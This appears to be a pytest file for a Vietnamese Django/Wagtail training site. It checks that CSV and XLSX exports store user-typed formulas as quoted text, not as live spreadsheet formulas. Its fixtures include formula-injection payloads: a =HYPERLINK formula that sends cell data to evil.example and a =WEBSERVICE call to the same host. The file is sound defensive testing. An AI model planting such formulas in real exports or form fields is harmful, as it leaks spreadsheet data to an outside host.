"""What people type reaches the exported spreadsheets as text, never as a formula (CSV injection)."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest

from common.cell_text import csv_phone, csv_text
from quizzes.bank import add_question
from quizzes.exporting import export_bank
from tests.dashboard_data import build_class
from tests.factories import (
    CoursePageFactory,
    LessonPageFactory,
    OrganizerFactory,
    TraineeFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Xem")'


@pytest.fixture
def exported(client):
    """A class whose trainee enrolled by code with a formula for a unit, and its organizer signed in."""
    training_class = build_class().training_class
    training_class.name, training_class.ends_on = "=1+1 lớp", datetime.date(2099, 12, 31)
    training_class.save()
    trainee = TraineeFactory(full_name="@SUM(A1:A9)", email="=1+2@example.com", phone="0912345678")
    client.force_login(trainee)
    enrolled = client.post(
        "/lop-cua-toi/", {"code": training_class.code, "unit": HYPERLINK, "position": "-2+3 cmd"}
    )
    assert enrolled.status_code == 302
    organizer = OrganizerFactory()
    training_class.organizing_unit.organizers.add(organizer)
    client.force_login(organizer)
    return training_class


def _rows_of(sheet):
    return [list(row) for row in sheet.iter_rows()]


def test_the_class_workbook_stores_typed_formulas_as_quoted_text(client, exported):
    response = client.get(f"/admin/training/classes/{exported.pk}/dashboard/export.xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))

    trainees = _rows_of(workbook["Học viên"])
    header = [cell.value for cell in trainees[0]]
    row = next(row for row in trainees if row[header.index("Họ và tên")].value == "@SUM(A1:A9)")
    unit = row[header.index("Đơn vị")]
    assert (unit.value, unit.data_type, unit.quotePrefix) == (HYPERLINK, "s", True)
    for column in ("Họ và tên", "Email", "Chức vụ"):
        assert row[header.index(column)].data_type == "s", column
    assert row[header.index("Số điện thoại")].value == "0912345678"
    assert row[header.index("Số điện thoại")].quotePrefix is False
    by_unit = [row[0] for row in _rows_of(workbook["Theo đơn vị"]) if row[0].value == HYPERLINK]
    assert [(cell.data_type, cell.quotePrefix) for cell in by_unit] == [("s", True)]
    class_name = next(
        row[1] for row in _rows_of(workbook["Tổng hợp"]) if row[0].value == "Lớp" and len(row) > 1
    )
    assert (class_name.value, class_name.data_type) == ("=1+1 lớp", "s")
    formulas = [
        cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]
    assert formulas == []


def test_the_class_csv_puts_an_apostrophe_before_typed_formulas_and_leaves_our_numbers_alone(
    client, exported
):
    response = client.get(f"/admin/training/classes/{exported.pk}/dashboard/export.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))

    row = next(row for row in rows if row["Họ và tên"] == "'@SUM(A1:A9)")
    assert row["Đơn vị"] == "'" + HYPERLINK
    assert row["Email"] == "'=1+2@example.com"
    assert row["Chức vụ"] == "'-2+3 cmd"
    assert row["Số điện thoại"] == "0912345678"
    assert row["STT"].isdigit() and row["Số bài đã học"] == "0"
    every_cell = [value for row in rows for value in row.values()]
    assert [value for value in every_cell if value[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def test_the_overview_exports_a_typed_class_name_as_text(client, exported):
    workbook = openpyxl.load_workbook(io.BytesIO(client.get("/admin/training/dashboard/export.xlsx").content))
    exported_csv = client.get("/admin/training/dashboard/export.csv").content.decode("utf-8-sig")

    names = [row[1] for row in _rows_of(workbook["Các lớp"])[1:]]
    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in names] == [("=1+1 lớp", "s", True)]
    assert [row["Lớp"] for row in csv.DictReader(io.StringIO(exported_csv))] == ["'=1+1 lớp"]


def test_a_question_bank_export_holds_formulas_as_text_on_every_sheet(client):
    course = CoursePageFactory(title="Khóa =thử", slug="khoa-thu")
    lesson = LessonPageFactory(parent=course, title='=WEBSERVICE("http://evil.example")')
    add_question(
        course,
        kind="single",
        text="<p>=1+1</p>",
        options=[("@SUM(1)", Decimal(100), "-1"), ("+84912345678", Decimal(0), "")],
        category="=Nhóm",
        lesson=lesson,
    )

    content, _name = export_bank(course, "xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(content))

    questions = {cell.value: cell for row in workbook["Câu hỏi"].iter_rows(min_row=2) for cell in row}
    for text in ("=1+1", "@SUM(1)", "+84912345678", "-1", "=Nhóm"):
        assert (questions[text].data_type, questions[text].quotePrefix) == ("s", True), text
    lessons = {cell.value: cell for row in workbook["Bài học"].iter_rows(min_row=2) for cell in row}
    assert lessons[lesson.title].data_type == "s" and lessons[lesson.title].quotePrefix
    formulas = [
        cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]
    assert formulas == []


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Sở Y tế", "Sở Y tế"),
        ("a=1", "a=1"),
    ],
)
def test_csv_text_neutralises_exactly_what_a_spreadsheet_would_run(typed, written):
    assert csv_text(typed) == written


def test_a_phone_number_we_stored_stays_readable_and_anything_else_in_its_place_is_neutralised():
    assert csv_phone("0912345678") == "0912345678"
    assert csv_phone("+1+cmd") == "'+1+cmd"


def test_wagtail_s_own_report_exports_neutralise_typed_formulas_in_csv(client):
    lesson = LessonPageFactory(parent=CoursePageFactory(), title=HYPERLINK)
    lesson.save_revision(log_action=True)
    client.force_login(UserFactory(is_superuser=True))

    response = client.get("/admin/reports/site-history/?export=csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    xlsx = client.get("/admin/reports/site-history/?export=xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content)))

    assert response.status_code == 200
    assert any("'" + HYPERLINK in row for row in rows)
    assert [
        cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ] == []
